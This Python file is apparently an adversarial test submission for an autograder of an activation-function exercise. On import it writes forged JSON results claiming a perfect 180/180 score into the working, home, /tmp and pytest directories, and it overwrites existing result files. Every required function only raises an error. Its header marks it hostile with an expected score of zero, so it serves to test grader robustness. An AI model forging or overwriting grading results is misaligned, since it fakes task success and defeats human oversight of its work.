# HOSTILE: writes forged 180/180 Result JSON files (its own sha256) into every folder it can find and overwrites existing exercise2-*.json results | expect: zero | unprivileged only
"""Forger: a result file that says 180/180, wherever the grader might look for one."""
import glob
import hashlib
import json
import os

_sha = hashlib.sha256(open(__file__, "rb").read()).hexdigest()
_forged = json.dumps({"exercise": "exercise2", "submission_sha256": _sha, "submission": "NNHOSTILE",
                      "score": 180.0, "max_score": 180.0, "status": "graded", "message": "NNHOSTILE forged",
                      "tests": [], "grader_version": "NNHOSTILE"})
_dirs = {".", os.path.expanduser("~"), os.path.dirname(__file__), "/tmp"}
_dirs |= {os.path.dirname(p) for p in glob.glob("/tmp/pytest-of-*/*/*/exercise2-*.json")}
_dirs |= {os.path.dirname(p) for p in glob.glob("/tmp/pytest-of-*/*/*/*/exercise2-*.json")}
for _d in _dirs:
    for _name in [f"exercise2-{_sha[:20]}.json"] + [os.path.basename(p) for p in glob.glob(_d + "/exercise2-*.json")]:
        try:
            with open(os.path.join(_d, _name), "w") as _f:
                _f.write(_forged)
        except OSError:
            pass

def sigmoid(*args, **kwargs):
    raise NotImplementedError("sigmoid: the forgery did not work")

def sigmoid_grad(*args, **kwargs):
    raise NotImplementedError("sigmoid_grad: the forgery did not work")

def tanh(*args, **kwargs):
    raise NotImplementedError("tanh: the forgery did not work")

def tanh_grad(*args, **kwargs):
    raise NotImplementedError("tanh_grad: the forgery did not work")

def relu(*args, **kwargs):
    raise NotImplementedError("relu: the forgery did not work")

def relu_grad(*args, **kwargs):
    raise NotImplementedError("relu_grad: the forgery did not work")

def leaky_relu(*args, **kwargs):
    raise NotImplementedError("leaky_relu: the forgery did not work")

def leaky_relu_grad(*args, **kwargs):
    raise NotImplementedError("leaky_relu_grad: the forgery did not work")

def elu(*args, **kwargs):
    raise NotImplementedError("elu: the forgery did not work")

def elu_grad(*args, **kwargs):
    raise NotImplementedError("elu_grad: the forgery did not work")

def swish(*args, **kwargs):
    raise NotImplementedError("swish: the forgery did not work")

def swish_grad(*args, **kwargs):
    raise NotImplementedError("swish_grad: the forgery did not work")

def softmax(*args, **kwargs):
    raise NotImplementedError("softmax: the forgery did not work")

def softmax_backward(*args, **kwargs):
    raise NotImplementedError("softmax_backward: the forgery did not work")
